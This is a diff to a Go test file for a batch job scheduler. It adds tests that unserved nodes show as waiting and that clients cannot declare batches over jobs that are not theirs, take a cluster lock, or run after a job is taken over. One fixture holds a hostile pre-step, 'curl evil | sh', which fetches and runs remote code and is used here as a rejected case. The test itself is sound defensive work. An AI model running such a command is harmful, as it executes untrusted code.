@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"slices"
 	"sort"
 	"strings"
 	"sync"
@@ -566,12 +567,33 @@ func TestANodesLabelsRouteItAndItsGroupIsAParam(t *testing.T) {
 	}
 }
 
+// A node whose labels no live client carries waits, and its run's status says for what.
+func TestANodeNoClientMayRunIsShownWaiting(t *testing.T) {
+	fs := newFakeStore(noSchedule("step", nil))
+	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "ssis", Job: "step", Labels: map[string]string{"os": "windows"}}}}
+	bs := newFakeBatchStore(fs, def)
+	h := newBatchHarness(t, fs, bs, "linux-only")
+	h.establish()
+	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
+		t.Fatal(err)
+	}
+	if d := dispatchOf(h, "b/c1/ssis"); d != nil {
+		t.Fatal("dispatched to a client without the node's labels")
+	}
+	st := h.l.batchStatus("b/c1")
+	want := "b/c1/ssis waits for a client: no live client serves job step with labels os=windows"
+	if st == nil || !slices.Contains(st.Waiting, want) {
+		t.Fatalf("status waiting %v, want %q", st, want)
+	}
+}
+
 // A client's batches in code are applied as its jobs are: created, kept as the client declares them, never
 // over a batch the API maintains, and only of jobs the client itself declared.
 func TestAClientDeclaresBatchesOfItsOwnJobsOnly(t *testing.T) {
 	mine := noSchedule("mine", func(s *job.Spec) { s.Source = "client:a" })
+	theirs := noSchedule("theirs", func(s *job.Spec) { s.Source = "client:x" })
 	admins := noSchedule("payroll", func(s *job.Spec) { s.Source = "api" })
-	fs := newFakeStore(mine, admins)
+	fs := newFakeStore(mine, theirs, admins)
 	bs := newFakeBatchStore(fs, workflow.Definition{Name: "api-made", Source: "api", Nodes: []workflow.Node{{Name: "n", Job: "mine"}}})
 	h := newBatchHarness(t, fs, bs)
 	declare := func(id string, defs ...workflow.Definition) registry.Member {
@@ -579,12 +601,13 @@ func TestAClientDeclaresBatchesOfItsOwnJobsOnly(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		return registry.Member{ID: id, Handlers: []string{"shell"}, Jobs: []string{"mine", "payroll"}, DeclaredBatches: b}
+		return registry.Member{ID: id, Handlers: []string{"shell"}, Jobs: []string{"mine", "theirs", "payroll"}, DeclaredBatches: b}
 	}
 	own := workflow.Definition{Name: "own", Nodes: []workflow.Node{{Name: "n", Job: "mine", Pre: "echo before"}}}
 	evil := workflow.Definition{Name: "evil", Schedule: "@every 1s", Nodes: []workflow.Node{{Name: "n", Job: "payroll", Pre: "curl evil | sh"}}}
 	takeover := workflow.Definition{Name: "api-made", Nodes: []workflow.Node{{Name: "n", Job: "mine", Post: "echo mine now"}}}
-	h.clients = []registry.Member{declare("a", own, takeover), declare("x", evil)}
+	hog := workflow.Definition{Name: "hog", Nodes: []workflow.Node{{Name: "n", Job: "theirs", Locks: []workflow.Lock{{Name: "ledger"}}}}}
+	h.clients = []registry.Member{declare("a", own, takeover), declare("x", evil, hog)}
 	h.establish()
 	h.l.applyDeclarations(context.Background())
 
@@ -598,14 +621,29 @@ func TestAClientDeclaresBatchesOfItsOwnJobsOnly(t *testing.T) {
 	if b, _ := bs.GetBatch(context.Background(), "api-made"); b.Version != 1 || b.Definition.Nodes[0].Post != "" {
 		t.Errorf("a client overwrote a batch the API maintains: %+v", b)
 	}
+	if _, err := bs.GetBatch(context.Background(), "hog"); err == nil {
+		t.Error("a client's batch takes the cluster's lock ledger (it could hold it from every batch)")
+	}
 
 	// Declared again, changed: updated. Another live client's declaration of the same name: ignored.
 	own.Description = "changed"
-	other := own
-	other.Description = "x's"
-	h.clients = []registry.Member{declare("a", own), declare("x", other)}
+	rival := workflow.Definition{Name: "own", Description: "x's", Nodes: []workflow.Node{{Name: "n", Job: "theirs"}}}
+	h.clients = []registry.Member{declare("a", own), declare("x", rival)}
 	h.l.applyDeclarations(context.Background())
-	if b, _ := bs.GetBatch(context.Background(), "own"); b.Version != 2 || b.Definition.Description != "changed" {
-		t.Errorf("after a's change and x's rival declaration: version %d %q, want 2 \"changed\"", b.Version, b.Definition.Description)
+	if b, _ := bs.GetBatch(context.Background(), "own"); b.Version != 2 || b.Definition.Description != "changed" || b.Definition.Nodes[0].Job != "mine" {
+		t.Errorf("after a's change and x's rival declaration (of x's own job): version %d %+v, want a's at version 2", b.Version, b.Definition)
+	}
+
+	// The job is taken over through the API: a's batch no longer runs it (it would wrap it in a's pre).
+	taken := mine
+	taken.Source, taken.Version = "api", 2
+	h.l.changes.put([]job.Spec{taken}, nil)
+	h.l.applyJobChanges()
+	run, err := h.op(batchOpNote{op: "run", batch: "own", cycle: "c1", who: "ops"})
+	if d := dispatchOf(h, "own/c1/n"); d != nil {
+		t.Fatalf("a client's batch ran a job that is no longer the client's, with pre %q", d.Params["batch_pre"])
+	}
+	if live := h.l.runs["own/c1"]; err == nil && live != nil && live.wf.Status()[0].State != workflow.Failed {
+		t.Errorf("node n of a run of a client's batch over a job taken over: %s, want failed (run %+v)", live.wf.Status()[0].State, run)
 	}
 }
